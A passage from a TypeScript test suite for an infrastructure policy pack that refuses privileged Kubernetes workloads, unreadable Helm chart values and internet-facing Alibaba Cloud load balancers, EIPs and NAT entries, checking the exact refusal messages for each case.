      `later: Task/commerce/later asks for the node (steps[0] ${U}) ${NOT_LISTED}`,
      `tpl: WorkflowTemplate/commerce/tpl asks for the node (templates[0] ${U}) ${NOT_LISTED}`,
      `runner: Runner/commerce/runner asks for the node (containers ${U}) ${NOT_LISTED}`,
      `pool: Pool/commerce/pool asks for the node (template ${U}) ${NOT_LISTED}`,
    ]);
  });

  test("a map with no image whose securityContext holds a container-only key is a container (a stepTemplate alone)", () => {
    const bad = mutated((s) => add(s, "kubernetes:example.com/v1:Runner", "runner", { stepTemplate: { securityContext: { privileged: true } } }));
    expect(messages(bad, p())).toEqual([`runner: Runner/commerce/runner asks for the node (stepTemplate.securityContext.privileged) ${NOT_LISTED}`]);
  });

  test("an Argo resource template's manifest (a YAML string Argo applies) is refused unless the workload is granted; a KubeVirt hostDisk is a host path", () => {
    const POD = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\nspec:\n  hostPID: true\n  containers:\n  - name: x\n    image: busybox\n";
    const bad = mutated((s) => {
      add(s, "kubernetes:argoproj.io/v1alpha1:Workflow", "apply", {
        entrypoint: "make",
        templates: [{ name: "make", resource: { action: "create", manifest: POD } }],
      });
      add(s, "kubernetes:kubevirt.io/v1:VirtualMachine", "vm", {
        runStrategy: "Always",
        template: { spec: { domain: { devices: {} }, volumes: [{ name: "disk", hostDisk: { path: "/var/lib/vm/disk.img", type: "DiskOrCreate" } }] } },
      });
    });
    expect(messages(bad, p())).toEqual([
      `apply: Workflow/commerce/apply asks for the node (templates[0].resource.manifest (a manifest Argo applies, which can create any object and the pack does not read)) ${NOT_LISTED}`,
      `vm: VirtualMachine/commerce/vm asks for the node (template.spec.volumes[0].hostDisk) ${NOT_LISTED}`,
    ]);
    const granted = podPrivileges("mandatory", { ...cfg("pod-privileges"), privilegedWorkloads: ["Workflow/commerce/apply"] });
    expect(messages(bad, granted).filter((m) => m.startsWith("apply:"))).toEqual([]);
  });
});

describe("pod-privileges and no-public-load-balancers (T11, T15): values a chart renders as objects or templates", () => {
  const pp = (extra: Record<string, unknown> = {}) => podPrivileges("mandatory", { ...cfg("pod-privileges"), ...extra });
  const lb = (extra: Record<string, unknown> = {}) => noPublicLoadBalancers("mandatory", { ...cfg("no-public-load-balancers"), ...extra });
  const CSR = "prod1-metrics-csr-approver";
  const KPS = "prod1-monitoring-kube-prometheus-stack";
  const LB_YAML = "apiVersion: v1\nkind: Service\nmetadata:\n  name: open\nspec:\n  type: LoadBalancer\n  ports:\n  - port: 80\n";
  const POD_YAML = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\nspec:\n  hostPID: true\n";
  const UNREAD = "which the chart renders as objects or templates the pack does not read";

  test("kubelet-csr-approver extraObjects/extraDeploy strings, kube-prometheus-stack extraManifests and a subchart's extraObjects, a {{ }} template: refused by both rules", () => {
    const bad = mutated((s) => {
      const csr = any(one(s, CSR).props).values;
      csr.extraObjects = [LB_YAML];
      csr.extraDeploy = [POD_YAML];
      const kps = any(one(s, KPS).props).values;
      kps.extraManifests = { open: { apiVersion: "v1", kind: "Service", metadata: { name: "open" }, spec: { type: "{{ .Values.svcType }}" } } };
      kps.grafana = { ...kps.grafana, extraObjects: [POD_YAML] };
    });
    expect(messages(bad, pp())).toEqual([
      `${CSR}: kube-system/kubelet-csr-approver values extraObjects, extraDeploy, ${UNREAD}, so neither its privileges nor its Services can be judged; declare those objects as resources of the plan, or ${FIX} (pod-privileges.unreadValuesReleases)`,
      `${KPS}: monitoring/kube-prometheus-stack values grafana.extraObjects, extraManifests, ${UNREAD}, so neither its privileges nor its Services can be judged; declare those objects as resources of the plan, or ${FIX} (pod-privileges.unreadValuesReleases)`,
    ]);
    expect(messages(bad, lb())).toEqual([
      `${CSR}: kube-system/kubelet-csr-approver values extraObjects, extraDeploy, ${UNREAD}, so a LoadBalancer Service there is not seen; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      `${KPS}: monitoring/kube-prometheus-stack values grafana.extraObjects, extraManifests, ${UNREAD}, so a LoadBalancer Service there is not seen; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    const template = mutated((s) => {
      any(one(s, CSR).props).values.podAnnotations = { note: "{{ .Release.Name }}" };
    });
    expect(messages(template, pp())).toEqual([
      `${CSR}: kube-system/kubelet-csr-approver values podAnnotations.note (a {{ template), ${UNREAD}, so neither its privileges nor its Services can be judged; declare those objects as resources of the plan, or ${FIX} (pod-privileges.unreadValuesReleases)`,
    ]);
  });

  test("granted in unreadValuesReleases, pod-privileges passes the release; no-public-load-balancers still needs it in publicLoadBalancers; empty lists pass", () => {
    const bad = mutated((s) => {
      any(one(s, CSR).props).values.extraObjects = [LB_YAML];
    });
    expect(messages(bad, pp({ unreadValuesReleases: ["kube-system/kubelet-csr-approver"] }))).toEqual([]);
    expect(messages(bad, lb())).toHaveLength(1);
    expect(messages(bad, lb({ publicLoadBalancers: ["kube-system/kubelet-csr-approver"] }))).toEqual([]);
    const empty = mutated((s) => {
      Object.assign(any(one(s, CSR).props).values, { extraObjects: [], extraDeploy: [], extraManifests: {} });
    });
    expect(messages(empty, pp())).toEqual([]);
    expect(messages(empty, lb())).toEqual([]);
  });
});

describe("no-public-load-balancers (T15)", () => {
  const p = () => noPublicLoadBalancers("mandatory", cfg("no-public-load-balancers"));

  test("prod1 passes; an internet ingress SLB, an SLB without addressType, an EIP on an SLB and a LoadBalancer Service fail", () => {
    expect(messages(prod1, p())).toEqual([]);
    const bad = mutated((s) => {
      one(s, "prod1-ingress-slb").props.addressType = "internet";
      delete one(s, "prod1-front-slb").props.addressType;
      s.resources.find((r) => r.name === "prod1-nat-eip" && r.type === "alicloud:ecs/eipAssociation:EipAssociation")!.props.instanceType = "SlbInstance";
      any(one(s, "prod1-order-service-service-order-service").props).spec.type = "LoadBalancer";
    });
    expect(messages(bad, p()).sort()).toEqual([
      'prod1-front-slb: SLB prod1-apiserver addressType is unset; must be "intranet"; allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (no-public-load-balancers.publicLoadBalancers)',
      'prod1-ingress-slb: SLB prod1-ingress addressType is "internet"; must be "intranet"; allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (no-public-load-balancers.publicLoadBalancers)',
      "prod1-nat-eip: binds an EIP to a SlbInstance ngw-ecba5023d571600c0eb9, which puts it on the internet; an EIP goes only to the NAT gateway (instanceType Nat), and egress goes through it",
      "prod1-order-service-service-order-service: LoadBalancer Service commerce/order-service gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; allowed values live in the pack config (policies/config/prod.json or nonprod.json), not in the stack file (no-public-load-balancers.publicLoadBalancers)",
    ]);
  });

  const add = (s: PolicyStack, type: string, name: string, props: Record<string, unknown>) =>
    s.resources.push({ type, name, urn: `urn:pulumi:prod1::platform::${type}::${name}`, props });

  test("an internet ALB or NLB (IPv4 or IPv6), an EIP on an instance, ENI or HaVip, a NAT DNAT entry: each refused, the NAT's own EIP passes", () => {
    const bad = mutated((s) => {
      add(s, "alicloud:alb/loadBalancer:LoadBalancer", "shop-alb", { loadBalancerName: "shop", addressType: "Internet" });
      add(s, "alicloud:nlb/loadBalancer:LoadBalancer", "shop-nlb", { loadBalancerName: "shop-l4", addressType: "internet" });
      add(s, "alicloud:nlb/loadBalancer:LoadBalancer", "v6-nlb", { loadBalancerName: "v6", addressType: "Intranet", ipv6AddressType: "Internet" });
      add(s, "alicloud:alb/loadBalancer:LoadBalancer", "inner-alb", { loadBalancerName: "inner", addressType: "Intranet" });
      add(s, "alicloud:ecs/eipAssociation:EipAssociation", "worker-eip", { allocationId: "eip-1", instanceId: "i-1" });
      add(s, "alicloud:ecs/eipAssociation:EipAssociation", "eni-eip", { allocationId: "eip-2", instanceId: "eni-2", instanceType: "NetworkInterface" });
      add(s, "alicloud:ecs/eipAssociation:EipAssociation", "havip-eip", { allocationId: "eip-3", instanceId: "havip-3", instanceType: "HaVip" });
      add(s, "alicloud:eipanycast/anycastEipAddressAttachment:AnycastEipAddressAttachment", "anycast", {
        anycastId: "aeip-1",
        bindInstanceId: "lb-1",
        bindInstanceType: "SlbInstance",
        bindInstanceRegionId: "cn-shanghai",
      });
      add(s, "alicloud:vpc/forwardEntry:ForwardEntry", "ssh-dnat", {
        forwardEntryName: "ssh",
        forwardTableId: "ftb-1",
        externalIp: "47.100.1.1",
        externalPort: "22",
        internalIp: "10.40.1.10",
        internalPort: "22",
        ipProtocol: "tcp",
      });
    });
    expect(messages(bad, p())).toEqual([
      `shop-alb: ALB shop addressType is "Internet"; must be "Intranet"; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      `shop-nlb: NLB shop-l4 addressType is "internet"; must be "Intranet"; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      `v6-nlb: NLB v6 ipv6AddressType is "Internet", a public IPv6 address; must be "Intranet" or unset; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      "worker-eip: binds an EIP to an EcsInstance (instanceType unset: the provider's default) i-1, which puts it on the internet; an EIP goes only to the NAT gateway (instanceType Nat), and egress goes through it",
      "eni-eip: binds an EIP to a NetworkInterface eni-2, which puts it on the internet; an EIP goes only to the NAT gateway (instanceType Nat), and egress goes through it",
      "havip-eip: binds an EIP to a HaVip havip-3, which puts it on the internet; an EIP goes only to the NAT gateway (instanceType Nat), and egress goes through it",
      "anycast: binds an Anycast EIP to SlbInstance lb-1, which puts it on the internet; an EIP goes only to the NAT gateway",
      `ssh-dnat: NAT forward entry ssh (DNAT) exposes 10.40.1.10:22 on 47.100.1.1:22 to the internet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    // Named in the pack config, the same ALB and DNAT entry pass.
    const allowed = noPublicLoadBalancers("mandatory", { publicLoadBalancers: ["shop", "ssh"] });
    expect(messages(bad, allowed).filter((m) => /^(shop-alb|ssh-dnat):/.test(m))).toEqual([]);
  });

  test("a Service: the legacy alicloud- annotation counts, a reused load balancer or another loadBalancerClass cannot be judged, an IPv6 internet address is refused", () => {
    const svcWith = (annotations: Record<string, string>, extra: Record<string, unknown> = {}) =>
      mutated((s) => {
        const svc = any(one(s, "prod1-order-service-service-order-service").props);
        Object.assign(svc.spec, { type: "LoadBalancer", ...extra });
        svc.metadata.annotations = annotations;
      });
    const ORDER_SVC = "prod1-order-service-service-order-service: LoadBalancer Service commerce/order-service";
    expect(messages(svcWith({ "service.beta.kubernetes.io/alicloud-loadbalancer-address-type": "intranet" }), p())).toEqual([]);
    expect(messages(svcWith({ "service.beta.kubernetes.io/alicloud-loadbalancer-address-type": "internet" }), p())).toEqual([
      `${ORDER_SVC} gets an internet-facing SLB (address-type "internet"); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(
      messages(
        svcWith({
          "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet",
          "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-id": "lb-uf6public",
        }),
        p(),
      ),
    ).toEqual([
      `${ORDER_SVC} reuses the existing load balancer "lb-uf6public" (loadbalancer-id), whose address type the plan does not show; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(
      messages(
        svcWith({
          "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet",
          "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-ipv6-address-type": "internet",
        }),
        p(),
      ),
    ).toEqual([`${ORDER_SVC} asks for an internet IPv6 address (ipv6-address-type); ${FIX} (no-public-load-balancers.publicLoadBalancers)`]);
    expect(
      messages(
        svcWith({ "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet" }, { loadBalancerClass: "alibabacloud.com/nlb" }),
        p(),
      ),
    ).toEqual([
      `${ORDER_SVC} sets loadBalancerClass "alibabacloud.com/nlb", so another controller decides its address, which the plan does not show; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  test("ingress-nginx values: the chart's default Service type is LoadBalancer, so dropping NodePort without the intranet annotation is refused; the internal Service too", () => {
    const withService = (service: Record<string, unknown>) =>
      mutated((s) => {
        any(one(s, "prod1-ingress-controller").props).values.controller.service = service;
      });
    const ING = "prod1-ingress-controller: ingress-nginx/ingress-nginx values";
    // prod1's own values: NodePort behind the intranet ingress SLB.
    expect(any(one(prod1, "prod1-ingress-controller").props).values.controller.service.type).toBe("NodePort");
    expect(messages(withService({ externalTrafficPolicy: "Cluster" }), p())).toEqual([
      `${ING} controller.service render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(
      messages(withService({ type: "LoadBalancer", annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet" } }), p()),
    ).toEqual([]);
    expect(
      messages(
        withService({
          type: "NodePort",
          internal: { enabled: true, type: "LoadBalancer", annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "internet" } },
        }),
        p(),
      ),
    ).toEqual([
      `${ING} controller.service.internal render a LoadBalancer Service that gets an internet-facing SLB (address-type "internet"); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(withService({ external: { enabled: false } }), p())).toEqual([]);
  });

  test("ingress-nginx named by its archive URL is still ingress-nginx: values {} render the default LoadBalancer Service", () => {
    const bad = mutated((s) => {
      s.resources.push({
        type: "kubernetes:helm.sh/v3:Release",
        name: "edge",
        urn: "urn:pulumi:prod1::platform::kubernetes:helm.sh/v3:Release::edge",
        props: {
          namespace: "commerce",
          name: "edge",
          chart: "https://github.com/kubernetes/ingress-nginx/releases/download/helm-chart-4.15.1/ingress-nginx-4.15.1.tgz",
          values: {},
        },
      });
    });
    expect(messages(bad, p())).toEqual([
      `edge: commerce/edge values controller.service render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  test("ingress-nginx's metrics, default-backend and webhook Services are judged too (any chart value map with type: LoadBalancer)", () => {
    const bad = mutated((s) => {
      const v = any(one(s, "prod1-ingress-controller").props).values;
      v.controller.metrics.service = { type: "LoadBalancer" };
      v.controller.admissionWebhooks.service = { type: "LoadBalancer" };
      v.defaultBackend = {
        enabled: true,
        service: { type: "LoadBalancer", annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type": "intranet" } },
      };
    });
    const rendered = (which: string) =>
      `prod1-ingress-controller: ingress-nginx/ingress-nginx values ${which} render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;
    expect(messages(bad, p())).toEqual([rendered("controller.admissionWebhooks.service"), rendered("controller.metrics.service")]);
  });

  test("another chart's values asking for a LoadBalancer (SkyWalking's UI Service) are refused without the annotation", () => {
    const bad = mutated((s) => {
      any(one(s, "prod1-tracing-skywalking").props).values.ui.service = { type: "LoadBalancer" };
    });
    expect(messages(bad, p())).toEqual([
      `prod1-tracing-skywalking: tracing/skywalking values ui.service render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  test("the CCM reads the alibaba-cloud- annotation first and the legacy alicloud- one only when it is absent", () => {
    const svcWith = (annotations: Record<string, string>) =>
      mutated((s) => {
        const svc = any(one(s, "prod1-order-service-service-order-service").props);
        svc.spec.type = "LoadBalancer";
        svc.metadata.annotations = annotations;
      });
    const NEW = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type";
    const LEGACY = "service.beta.kubernetes.io/alicloud-loadbalancer-address-type";
    expect(messages(svcWith({ [NEW]: "intranet", [LEGACY]: "internet" }), p())).toEqual([]);
    expect(messages(svcWith({ [NEW]: "internet", [LEGACY]: "intranet" }), p())).toEqual([
      `prod1-order-service-service-order-service: LoadBalancer Service commerce/order-service gets an internet-facing SLB (address-type "internet"); annotate ${NEW}: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  test("ingress-nginx renders the internal Service only with annotations (controller-service-internal.yaml:1): enabled without them, nothing is rendered", () => {
    const internal = (annotations?: Record<string, string>) =>
      mutated((s) => {
        any(one(s, "prod1-ingress-controller").props).values.controller.service = {
          type: "NodePort",
          internal: { enabled: true, type: "LoadBalancer", ...(annotations ? { annotations } : {}) },
        };
      });
    expect(messages(internal(), p())).toEqual([]);
    expect(messages(internal({ "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-spec": "slb.s1.small" }), p())).toEqual([
      `prod1-ingress-controller: ingress-nginx/ingress-nginx values controller.service.internal render a LoadBalancer Service that gets an internet-facing SLB (address-type unset, so internet); annotate service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type: intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
  });

  // Alibaba Cloud "Configure ALB instances with AlbConfig" (/help/en/ack/distributed-cloud-container-platform-for-kubernetes/
  // user-guide/configure-albconfig-objects, updated Mar 26, 2026): spec.config.addressType Internet or Intranet, default Internet.
  const ALB_CONFIG = "kubernetes:alibabacloud.com/v1:AlbConfig";
  const albConfig = (name: string, config: Record<string, unknown>) =>
    mutated((s) => add(s, ALB_CONFIG, `${name}-albconfig`, { apiVersion: "alibabacloud.com/v1", kind: "AlbConfig", metadata: { name }, spec: { config } }));
  const ZONES = [{ vSwitchId: "vsw-a" }, { vSwitchId: "vsw-b" }];

  test("an AlbConfig (ALB Ingress controller) asking for an Internet ALB, or leaving addressType to its Internet default, is refused; an Intranet one passes", () => {
    expect(messages(albConfig("shop", { name: "shop", addressType: "Internet", zoneMappings: ZONES }), p())).toEqual([
      `shop-albconfig: AlbConfig shop spec.config.addressType is "Internet", an internet-facing ALB; must be "Intranet"; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(albConfig("shop", { name: "shop", zoneMappings: ZONES }), p())).toEqual([
      `shop-albconfig: AlbConfig shop spec.config.addressType is unset, which the ALB Ingress controller makes Internet, an internet-facing ALB; must be "Intranet"; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    expect(messages(albConfig("inner", { name: "inner", addressType: "Intranet", zoneMappings: ZONES }), p())).toEqual([]);
    expect(
      messages(albConfig("inner", { addressType: "Intranet", ipv6AddressType: "Internet", addressIpVersion: "DualStack", id: "alb-uf6public" }), p()),
    ).toEqual([
      `inner-albconfig: AlbConfig inner spec.config.ipv6AddressType is "Internet", a public IPv6 address; must be "Intranet" or unset; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      `inner-albconfig: AlbConfig inner spec.config.id reuses the existing ALB "alb-uf6public", whose address type the plan does not show; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
    ]);
    // Named in the pack config, the Internet AlbConfig passes; its bare name does not name it.
    const internet = albConfig("shop", { addressType: "Internet" });
    expect(messages(internet, noPublicLoadBalancers("mandatory", { publicLoadBalancers: ["AlbConfig/shop"] }))).toEqual([]);
    expect(messages(internet, noPublicLoadBalancers("mandatory", { publicLoadBalancers: ["shop"] }))).toHaveLength(1);
  });

  const refs = () => albConfigReferences("mandatory", cfg("alb-config-references"));
  // no-public-load-balancers judges each object; alb-config-references, a stack policy, the AlbConfig names against the plan.
  const both = (s: PolicyStack) => [...messages(s, p()), ...messages(s, refs())];

  test("an ALB IngressClass must name an AlbConfig (apiGroup alibabacloud.com, kind AlbConfig) that the plan declares or the pack config names", () => {
    const cls = (parameters?: Record<string, unknown>, declare = true) =>
      mutated((s) => {
        if (declare)
          add(s, ALB_CONFIG, "inner-albconfig", {
            apiVersion: "alibabacloud.com/v1",
            kind: "AlbConfig",
            metadata: { name: "inner" },
            spec: { config: { addressType: "Intranet" } },
          });
        add(s, "kubernetes:networking.k8s.io/v1:IngressClass", "alb-class", {
          metadata: { name: "alb" },
          spec: { controller: "ingress.k8s.alibabacloud/alb", ...(parameters ? { parameters } : {}) },
        });
      });
    const NAMES_NONE = `alb-class: IngressClass alb of the ALB Ingress controller (ingress.k8s.alibabacloud/alb) names no AlbConfig in spec.parameters (apiGroup alibabacloud.com, kind AlbConfig), so the plan does not show which ALB, internet or intranet, serves its Ingresses; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;
    expect(both(cls({ apiGroup: "alibabacloud.com", kind: "AlbConfig", name: "inner" }))).toEqual([]);
    expect(both(cls())).toEqual([NAMES_NONE]);
    // The controller reads kind and apiGroup too: another kind or group is not an AlbConfig.
    expect(both(cls({ apiGroup: "alibabacloud.com", kind: "ConfigMap", name: "inner" }))).toEqual([NAMES_NONE]);
    expect(both(cls({ apiGroup: "example.com", kind: "AlbConfig", name: "inner" }))).toEqual([NAMES_NONE]);
    // An AlbConfig the plan does not declare: its address type is not shown.
    const undeclared = cls({ apiGroup: "alibabacloud.com", kind: "AlbConfig", name: "inner" }, false);
    expect(both(undeclared)).toEqual([
      `alb-class: IngressClass alb of the ALB Ingress controller takes its ALB from AlbConfig "inner", which the plan does not declare, so whether its ALB is internet-facing is not shown; declare the AlbConfig in the plan (then it is judged), or name it as AlbConfig/<name> in the pack config; ${FIX} (alb-config-references.publicLoadBalancers)`,
    ]);
    expect(messages(undeclared, albConfigReferences("mandatory", { publicLoadBalancers: ["AlbConfig/inner"] }))).toEqual([]);
  });

  test("an Ingress's albconfig.name annotation (group_loader.go:174-185, bypassing the IngressClass) must name a declared AlbConfig; the address-type annotation decides nothing", () => {
    const ing = (annotations: Record<string, string>, type = "kubernetes:networking.k8s.io/v1:Ingress") =>
      mutated((s) => {
        add(s, ALB_CONFIG, "shop-albconfig", {
          apiVersion: "alibabacloud.com/v1",
          kind: "AlbConfig",
          metadata: { name: "shop" },
          spec: { config: { addressType: "Internet" } },
        });
        add(s, type, "shop-ingress", { metadata: { name: "shop", namespace: "commerce", annotations }, spec: { ingressClassName: "alb" } });
      });
    const SHOP_INTERNET = `shop-albconfig: AlbConfig shop spec.config.addressType is "Internet", an internet-facing ALB; must be "Intranet"; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;
    expect(both(ing({ "alb.ingress.kubernetes.io/albconfig.name": "shop" }))).toEqual([SHOP_INTERNET]);
    const ghost = `shop-ingress: Ingress/commerce/shop selects its ALB by alb.ingress.kubernetes.io/albconfig.name (bypassing its IngressClass) from AlbConfig "ghost", which the plan does not declare, so whether its ALB is internet-facing is not shown; declare the AlbConfig in the plan (then it is judged), or name it as AlbConfig/<name> in the pack config; ${FIX} (alb-config-references.publicLoadBalancers)`;
    expect(both(ing({ "alb.ingress.kubernetes.io/albconfig.name": "ghost" }))).toEqual([SHOP_INTERNET, ghost]);
    expect(both(ing({ "alb.ingress.kubernetes.io/albconfig.name": "ghost" }, "kubernetes:networking.k8s.io/v1:IngressPatch"))).toEqual([SHOP_INTERNET, ghost]);
    // alibaba-load-balancer-controller c2771084 reads address-type only in makeAlbConfig, which nothing calls.
    expect(both(ing({ "alb.ingress.kubernetes.io/address-type": "internet" }))).toEqual([SHOP_INTERNET]);
  });

  test("AlbConfig of any version of alibabacloud.com, an AlbConfigPatch setting an internet address, an IngressClassPatch naming an undeclared AlbConfig", () => {
    const bad = mutated((s) => {
      add(s, "kubernetes:alibabacloud.com/v2beta1:AlbConfig", "next-albconfig", { metadata: { name: "next" }, spec: { config: { addressType: "Internet" } } });
      add(s, "kubernetes:alibabacloud.com/v1:AlbConfigPatch", "flip-albconfig", { metadata: { name: "inner" }, spec: { config: { addressType: "Internet" } } });
      add(s, "kubernetes:alibabacloud.com/v1:AlbConfigPatch", "listeners-albconfig", {
        metadata: { name: "inner" },
        spec: { listeners: [{ port: 80, protocol: "HTTP" }] },
      });
      add(s, "kubernetes:networking.k8s.io/v1:IngressClassPatch", "alb-class-patch", {
        metadata: { name: "alb" },
        spec: { parameters: { apiGroup: "alibabacloud.com", kind: "AlbConfig", name: "ghost" } },
      });
    });
    expect(both(bad)).toEqual([
      `next-albconfig: AlbConfig next spec.config.addressType is "Internet", an internet-facing ALB; must be "Intranet"; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      `flip-albconfig: AlbConfigPatch of inner spec.config.addressType is "Internet", an internet-facing ALB; must be "Intranet"; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      `alb-class-patch: IngressClass alb of the ALB Ingress controller takes its ALB from AlbConfig "ghost", which the plan does not declare, so whether its ALB is internet-facing is not shown; declare the AlbConfig in the plan (then it is judged), or name it as AlbConfig/<name> in the pack config; ${FIX} (alb-config-references.publicLoadBalancers)`,
    ]);
    // A patch that only labels an IngressClass (no parameters) is no ALB reference.
    const labelled = mutated((s) =>
      add(s, "kubernetes:networking.k8s.io/v1:IngressClassPatch", "nginx-class-labels", { metadata: { name: "nginx", labels: { team: "platform" } } }),
    );
    expect(both(labelled)).toEqual([]);
  });

  describe("patched-services (T15): a ServicePatch of a Service the plan declares is judged merged with it", () => {
    const NEW = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-address-type";
    const LEGACY = "service.beta.kubernetes.io/alicloud-loadbalancer-address-type";
    const ORDER_SVC = "prod1-order-service-service-order-service";
    const merge = () => patchedServicesExposure("mandatory", cfg("patched-services"));
    /** prod1's order-service Service with these annotations (and type), and a ServicePatch of it. */
    const planWith = (service: { annotations?: Record<string, unknown>; type?: string }, patch: Record<string, unknown>) =>
      mutated((s) => {
        const svc = any(one(s, ORDER_SVC).props);
        svc.metadata.annotations = service.annotations;
        if (service.type) svc.spec.type = service.type;
        add(s, "kubernetes:core/v1:ServicePatch", "order-patch", {
          ...patch,
          metadata: { name: "order-service", namespace: "commerce", ...(patch.metadata as object) },
        });
      });

    test("prod1 passes; the pack config has the rule's own key", () => {
      expect(messages(prod1, merge())).toEqual([]);
      expect(cfg("patched-services")).toEqual({ publicLoadBalancers: [] });
    });

    /** What no-public-load-balancers says of a patch making a LoadBalancer with only the legacy intranet annotation. */
    const legacyOnly = (id: string) =>
      `order-patch: ServicePatch making a LoadBalancer Service of ${id} sets only the legacy ${LEGACY} intranet, which the Service's own ${NEW} (not in the plan) outranks; annotate ${NEW}: intranet in the patch; ${FIX} (no-public-load-balancers.publicLoadBalancers)`;

    test("the Service's alibaba-cloud- internet outranks the patch's legacy alicloud- intranet: the merge is refused, and the patch alone too (only the legacy annotation)", () => {
      // The Service is ClusterIP (its annotation decides nothing alone); the patch makes it a LoadBalancer with the legacy intranet annotation.
      const s = planWith({ annotations: { [NEW]: "internet" } }, { metadata: { annotations: { [LEGACY]: "intranet" } }, spec: { type: "LoadBalancer" } });
      expect(messages(s, p())).toEqual([legacyOnly("commerce/order-service")]);
      expect(messages(s, merge())).toEqual([
        `Service commerce/order-service with its ServicePatch order-patch applied is a LoadBalancer Service that gets an internet-facing SLB (address-type "internet"); annotate ${NEW}: intranet; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
      // Likewise a ClusterIP Service naming an existing load balancer, made a LoadBalancer by an intranet patch.
      const reused = planWith(
        { annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-id": "lb-internet0001" } },
        { metadata: { annotations: { [NEW]: "intranet" } }, spec: { type: "LoadBalancer" } },
      );
      expect(messages(reused, p())).toEqual([]);
      expect(messages(reused, merge())).toEqual([
        `Service commerce/order-service with its ServicePatch order-patch applied is a LoadBalancer Service that reuses the existing load balancer "lb-internet0001" (loadbalancer-id), whose address type the plan does not show; ${FIX} (patched-services.publicLoadBalancers)`,
      ]);
      // The pack config's publicLoadBalancers names it: allowed.
      const allowedMerge = patchedServicesExposure("mandatory", { publicLoadBalancers: ["commerce/order-service"] });
      expect(messages(s, allowedMerge)).toEqual([]);
    });

    test("the merge is private: the patch's type over the Service's intranet annotation, or the patch's annotation over an intranet LoadBalancer", () => {
      // Alone the patch is refused (its own annotations are all no-public-load-balancers sees); merged it is intranet.
      const typed = planWith({ annotations: { [NEW]: "intranet" } }, { spec: { type: "LoadBalancer" } });
      expect(messages(typed, merge())).toEqual([]);
      expect(messages(typed, p())).toHaveLength(1);
      const sized = planWith(
        { annotations: { [NEW]: "intranet" }, type: "LoadBalancer" },
        { metadata: { annotations: { "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-spec": "slb.s2.small" } } },
      );
      expect([messages(sized, p()), messages(sized, merge())]).toEqual([[], []]);
      // A patch's null keeps the Service's value: server-side apply drops an explicit null and removes a field only
      // when the applier owned it (kubernetes-sigs/structured-merge-diff#330). The merge stays intranet; the patch
      // alone is still refused by no-public-load-balancers.
      const removed = planWith(
        { annotations: { [NEW]: "intranet" }, type: "LoadBalancer" },
        { metadata: { annotations: { [NEW]: null } }, spec: { loadBalancerClass: null } },
      );
      expect(messages(removed, merge())).toEqual([]);
      expect(messages(removed, p())).toEqual([
        `order-patch: ServicePatch of commerce/order-service sets ${NEW} to null, which makes its load balancer internet-facing (or drops intranet); must be intranet; ${FIX} (no-public-load-balancers.publicLoadBalancers)`,
      ]);
    });

    test("M-1: a patch whose target name or namespace is unknown during preview is named, and judged alone needs the alibaba-cloud- annotation", () => {
      const U = "(unknown during preview)";
      const lb = { metadata: { annotations: { [LEGACY]: "intranet" } }, spec: { type: "LoadBalancer" } };
